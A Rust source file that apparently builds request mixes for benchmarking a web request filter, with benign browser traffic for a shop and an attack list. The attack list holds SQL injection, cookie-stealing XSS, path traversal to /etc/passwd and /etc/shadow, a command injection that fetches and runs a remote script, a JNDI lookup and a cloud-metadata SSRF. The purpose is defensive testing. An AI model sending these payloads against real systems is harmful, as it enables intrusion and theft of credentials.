//! What the benchmark sends: fixed mixes of requests, the same in every run on every machine.
//!
//! Benign requests are what browsers send: nineteen headers, a few dozen User-Agents, pages with and without a
//! query, some with a Referer. The lists have lengths without a common divisor, so that every value meets
//! many others. Attacks are what scanners and people with a payload list send.

/// Requests of a mix.
pub const REQUESTS: usize = 64;

/// Times that the benign mix stands in the one of unseen targets, each time with other targets: more than
/// an inspector remembers, so that none is known when it comes again.
const UNSEEN: usize = 256;

/// Which mix.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Mix {
    /// Browsers at a shop.
    Benign,
    /// The same, but each asks for something that nobody asked for before.
    Unseen,
    /// Scanners and payloads.
    Attack,
}

/// One request: its headers as a gateway hands them to a filter, pseudo-headers first.
#[derive(Clone, Debug)]
pub struct Request(pub Vec<(&'static str, String)>);

impl Request {
    /// The bytes that a client sends for it.
    pub fn wire(&self) -> Vec<u8> {
        let value = |wanted: &str| {
            let found = self.0.iter().find(|(name, _)| *name == wanted);
            found.map_or("", |(_, value)| value.as_str())
        };
        let mut out = format!(
            "{} {} HTTP/1.1\r\nhost: {}\r\n",
            value(":method"),
            value(":path"),
            value(":authority")
        );
        for (name, value) in self.0.iter().filter(|(name, _)| !name.starts_with(':')) {
            out.push_str(&format!("{name}: {value}\r\n"));
        }
        out.push_str("\r\n");
        out.into_bytes()
    }

    /// The headers as the engine takes them.
    pub fn pairs(&self) -> Vec<(&[u8], &[u8])> {
        let pairs = self.0.iter();
        pairs
            .map(|(name, value)| (name.as_bytes(), value.as_bytes()))
            .collect()
    }
}

impl Mix {
    /// The word for it.
    pub const fn name(self) -> &'static str {
        match self {
            Mix::Benign => "benign",
            Mix::Unseen => "unseen",
            Mix::Attack => "attack",
        }
    }

    /// Its requests: [`REQUESTS`], or that many over and over with other targets.
    pub fn requests(self) -> Vec<Request> {
        let count = match self {
            Mix::Unseen => REQUESTS * UNSEEN,
            Mix::Benign | Mix::Attack => REQUESTS,
        };
        let agents = agents();
        (0..count)
            .map(|n| match self {
                Mix::Benign => browser(pick(TARGETS, n), pick(&agents, n), referer(n), n),
                Mix::Unseen => {
                    let (n, pass) = (n % REQUESTS, n / REQUESTS);
                    let target = pick(TARGETS, n);
                    let sign = if target.contains('?') { '&' } else { '?' };
                    let target = format!("{target}{sign}v={pass:x}.{n:x}");
                    browser(&target, pick(&agents, n), referer(n), n)
                }
                Mix::Attack => {
                    let (target, agent) = pick(ATTACKS, n);
                    let agent = agent.map_or_else(|| pick(&agents, n), str::to_owned);
                    browser(target, agent, None, n)
                }
            })
            .collect()
    }
}

fn pick<T: Clone>(list: &[T], n: usize) -> T {
    list[n % list.len()].clone()
}

fn browser(target: &str, agent: String, referer: Option<String>, n: usize) -> Request {
    let mut headers = vec![
        (":authority", "shop.example.com".to_owned()),
        (":path", target.to_owned()),
        (":method", "GET".to_owned()),
        (":scheme", "http".to_owned()),
        ("cache-control", "max-age=0".to_owned()),
        (
            "sec-ch-ua",
            r#""Chromium";v="141", "Google Chrome";v="141", "Not?A_Brand";v="8""#.to_owned(),
        ),
        ("sec-ch-ua-mobile", "?0".to_owned()),
        ("sec-ch-ua-platform", r#""Windows""#.to_owned()),
        ("upgrade-insecure-requests", "1".to_owned()),
        ("user-agent", agent),
        (
            "accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
                .to_owned(),
        ),
        ("sec-fetch-site", "same-origin".to_owned()),
        ("sec-fetch-mode", "navigate".to_owned()),
        ("sec-fetch-user", "?1".to_owned()),
        ("sec-fetch-dest", "document".to_owned()),
    ];
    if let Some(referer) = referer {
        headers.push(("referer", referer));
    }
    headers.extend([
        ("accept-encoding", "gzip, deflate, br, zstd".to_owned()),
        ("accept-language", pick(LANGUAGES, n).to_owned()),
        (
            "cookie",
            format!(
                "session={:016x}; theme=light; consent=analytics.marketing; _ga=GA1.1.{}.{}",
                (n as u64 + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15),
                483_920_117 + 7_919 * n,
                1_760_000_000 + 977 * n
            ),
        ),
    ]);
    Request(headers)
}

/// Two of three pages are reached from another.
fn referer(n: usize) -> Option<String> {
    match n % 3 {
        0 => None,
        1 => Some(format!("https://shop.example.com{}", pick(TARGETS, n + 17))),
        _ => Some(pick(ELSEWHERE, n).to_owned()),
    }
}

/// User-Agents: the systems by the browsers on them.
fn agents() -> Vec<String> {
    let mut agents = Vec::new();
    for system in SYSTEMS {
        for version in [138, 140, 141] {
            agents.push(format!(
                "Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.0.0 Safari/537.36"
            ));
        }
        agents.push(format!(
            "Mozilla/5.0 ({system}; rv:143.0) Gecko/20100101 Firefox/143.0"
        ));
    }
    agents.extend(OTHER_AGENTS.iter().map(|&agent| agent.to_owned()));
    agents
}

const SYSTEMS: &[&str] = &[
    "Windows NT 10.0; Win64; x64",
    "Macintosh; Intel Mac OS X 10_15_7",
    "X11; Linux x86_64",
    "X11; Ubuntu; Linux x86_64",
    "Linux; Android 10; K",
    "Linux; Android 14; SM-S921B",
    "X11; CrOS x86_64 14541.0.0",
];

const OTHER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/140.0.7339.101 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
];

const LANGUAGES: &[&str] = &[
    "en-US,en;q=0.9",
    "de-DE,de;q=0.9,en;q=0.7",
    "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7",
    "ja,en-US;q=0.8",
    "pt-BR,pt;q=0.9",
];

const ELSEWHERE: &[&str] = &[
    "https://www.google.com/",
    "https://www.bing.com/search?q=garden+hose+20m&form=QBLH",
    "https://duckduckgo.com/",
    "https://news.example.org/2026/11/autumn-in-the-garden.html",
    "https://mail.example.net/inbox/?utm_source=newsletter&utm_medium=email",
];

const TARGETS: &[&str] = &[
    "/",
    "/products",
    "/products?category=tools&sort=price_asc&page=2",
    "/product/4711/garden-hose-20m",
    "/search?q=garden+hose",
    "/search?q=rosen%20scheren&lang=de",
    "/cart",
    "/login?next=%2Faccount%2Forders",
    "/account/orders/2026-10-3391",
    "/static/css/main.3f9a1c.css",
    "/static/js/app.8d21be.js",
    "/static/img/products/4711/large.webp?w=800&q=75",
    "/favicon.ico",
    "/blog/2026/10/how-to-prune-roses",
    "/blog?tag=autumn&page=3",
    "/api/v2/products?ids=4711,4712,4713&fields=name,price",
    "/api/v2/cart/items?currency=EUR",
    "/api/v2/session/refresh?ts=1763848800123",
    "/de/produkte/gartenschl%C3%A4uche",
    "/checkout/address?step=2&gift=false",
    "/help/returns-and-refunds",
    "/newsletter/confirm?token=b1c4d2e6f7a84911a2b3c4d5e6f70819",
    "/?utm_source=google&utm_medium=cpc&utm_campaign=autumn_sale&gclid=EAIaIQobChMI8dTq",
    "/stores?lat=52.5200&lon=13.4050&radius=25",
    "/robots.txt",
    "/sitemap.xml",
    "/media/catalogue-2026.pdf",
    "/reviews?product=4712&stars=4&after=2026-01-01",
    "/wishlist/share/8f14e45fceea167a",
];

const ATTACKS: &[(&str, Option<&str>)] = &[
    ("/product?id=1%27%20or%201=1--%20", None),
    (
        "/product?id=1+UNION+SELECT+username,password+FROM+users--",
        None,
    ),
    (
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        None,
    ),
    ("/search?q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E", None),
    ("/download?file=../../../../etc/passwd", None),
    ("/download?file=..%252f..%252f..%252fetc%252fshadow", None),
    ("/ping?host=127.0.0.1;cat+/etc/passwd", None),
    ("/ping?host=$(curl+http://198.51.100.7/x.sh|sh)", None),
    ("/?x=${jndi:ldap://198.51.100.7:1389/a}", None),
    ("/fetch?url=http://169.254.169.254/latest/meta-data/", None),
    ("/.env", None),
    ("/.git/config", None),
    (
        "/wp-login.php",
        Some("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
    ),
    (
        "/index.php?id=1",
        Some("sqlmap/1.8.4#stable (https://sqlmap.org)"),
    ),
    (
        "/admin/",
        Some("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"),
    ),
    (
        "/",
        Some("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
    ),
    ("/product?id=1;WAITFOR+DELAY+'0:0:5'--", None),
    ("/render?name={{7*7}}", None),
    (
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
        None,
    ),
];

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

    use super::*;

    #[test]
    fn benign_requests_look_like_those_of_browsers() {
        let requests = Mix::Benign.requests();
        assert_eq!(requests.len(), REQUESTS);
        let headers: usize = requests.iter().map(|request| request.0.len()).sum();
        assert!((18..=19).contains(&(headers / requests.len())), "{headers}");
        let agents = |request: &Request| request.wire().windows(11).any(|w| w == b"user-agent:");
        assert!(requests.iter().all(agents));
        let mut targets: Vec<_> = requests.iter().map(Request::wire).collect();
        targets.sort();
        targets.dedup();
        assert_eq!(targets.len(), REQUESTS);
    }

    #[test]
    fn no_target_of_the_unseen_ones_comes_twice_while_it_may_be_remembered() {
        let mut targets: Vec<_> = Mix::Unseen
            .requests()
            .into_iter()
            .flat_map(|request| request.0)
            .filter(|(name, _)| *name == ":path")
            .collect();
        let all = targets.len();
        assert!(all > 4 * portcullis::limits::REMEMBERED_TARGETS);
        targets.sort();
        targets.dedup();
        assert_eq!(targets.len(), all);
    }
}
